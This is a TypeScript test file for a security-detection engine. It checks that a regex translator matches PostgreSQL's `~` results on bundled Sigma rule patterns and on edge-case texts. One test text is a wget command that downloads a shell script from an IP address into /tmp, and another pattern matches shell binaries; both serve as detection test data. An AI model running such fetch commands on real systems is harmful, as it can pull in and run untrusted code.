import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import pg from 'pg';
import { areStandIn } from '../../src/store/index.js';
import { PG_URL_ENV } from '../helpers/store-dialects.js';

/** The `|re` patterns of the bundled rules (what live detection runs on every batch). */
function corpusPatterns(): string[] {
  const dir = join(import.meta.dirname, '../../../rules/sigma');
  const out = new Set<string>();
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      if (e.isDirectory()) walk(join(d, e.name));
      else if (e.name.endsWith('.yml')) {
        for (const m of readFileSync(join(d, e.name), 'utf8').matchAll(/\|re:\s*(.+)$/gm)) {
          let v = m[1].replace(/\s+#.*$/, '').trim();
          if (v.startsWith("'")) v = v.slice(1, v.lastIndexOf("'")).replaceAll("''", "'");
          out.add(v);
        }
      }
    }
  };
  walk(dir);
  return [...out];
}

const OWN_PATTERNS = [
  '^/usr/bin/(ba|z)?sh$',
  'a.b',
  '^x$',
  '[^a-z]{2,3}',
  '(?:ab)+?c',
  '\\d{3}-\\w+\\s',
  '\\.\\$\\(\\)',
  'a{0}b',
  '[-a]x',
  '\\S+\\W\\D',
  '',
];

const TEXTS = [
  '',
  'a',
  'axb',
  'a\nb',
  'ls -la /tmp',
  'wget -O /tmp/x.sh http://198.51.100.7/x.sh',
  'curl -D - http://h',
  'xxd -W "41 42 43 44" -R',
  'ls --directory /etc',
  'ls -lid /etc',
  '/usr/bin/bash',
  '/usr/bin/zsh\n',
  '123-abc def',
  'a$() b',
  '.$()',
  'x'.repeat(250),
  'b',
  '-x',
  'AB c',
  'tab\there',
  'line\r\nbreak',
];

test('areStandIn refuses what ARE and JavaScript read differently, and leaves non-ASCII texts to the engine', () => {
  for (const p of [
    '\\bsudo\\b',
    '\\x41',
    '\\y',
    '\\m',
    '(a)\\1',
    '(?=a)',
    '(?i)a',
    '[[:alpha:]]',
    '[]a]',
    'a{256}',
    'a{,3}',
    '[\\S]',
    '***=a',
    'broken(',
    'a}',
  ])
    assert.equal(areStandIn(p), undefined, p);
  assert.equal(areStandIn('\\s-O\\s')?.('wget -O x'), true);
  assert.equal(areStandIn('\\s-O\\s')?.('wget -o x'), false);
  assert.equal(areStandIn('\\s-O\\s')?.('wget -O caf\u00e9'), null);
  for (const p of [...corpusPatterns(), ...OWN_PATTERNS]) assert.notEqual(areStandIn(p), undefined, p);
});

test('areStandIn answers as PostgreSQL `~` on every pattern of the bundled rules and on edge texts', async (t) => {
  const url = process.env[PG_URL_ENV];
  if (!url) {
    t.skip(`${PG_URL_ENV} not set`);
    return;
  }
  const client = new pg.Client({ connectionString: url });
  await client.connect();
  try {
    const patterns = [...corpusPatterns(), ...OWN_PATTERNS];
    assert.ok(patterns.length >= 7, 'the corpus patterns were found');
    const { rows } = await client.query<{ p: number; t: number; m: boolean }>(
      'select p.i as p, t.i as t, t.v ~ p.v as m from unnest($1::text[]) with ordinality p(v, i), unnest($2::text[]) with ordinality t(v, i)',
      [patterns, TEXTS],
    );
    assert.equal(rows.length, patterns.length * TEXTS.length);
    let matches = 0;
    for (const r of rows) {
      const p = patterns[Number(r.p) - 1];
      const text = TEXTS[Number(r.t) - 1];
      if (r.m) matches++;
      assert.equal(areStandIn(p)?.(text), r.m, `${JSON.stringify(p)} on ${JSON.stringify(text)}`);
    }
    assert.ok(matches > 20, 'the texts match some patterns');
  } finally {
    await client.end();
  }
});
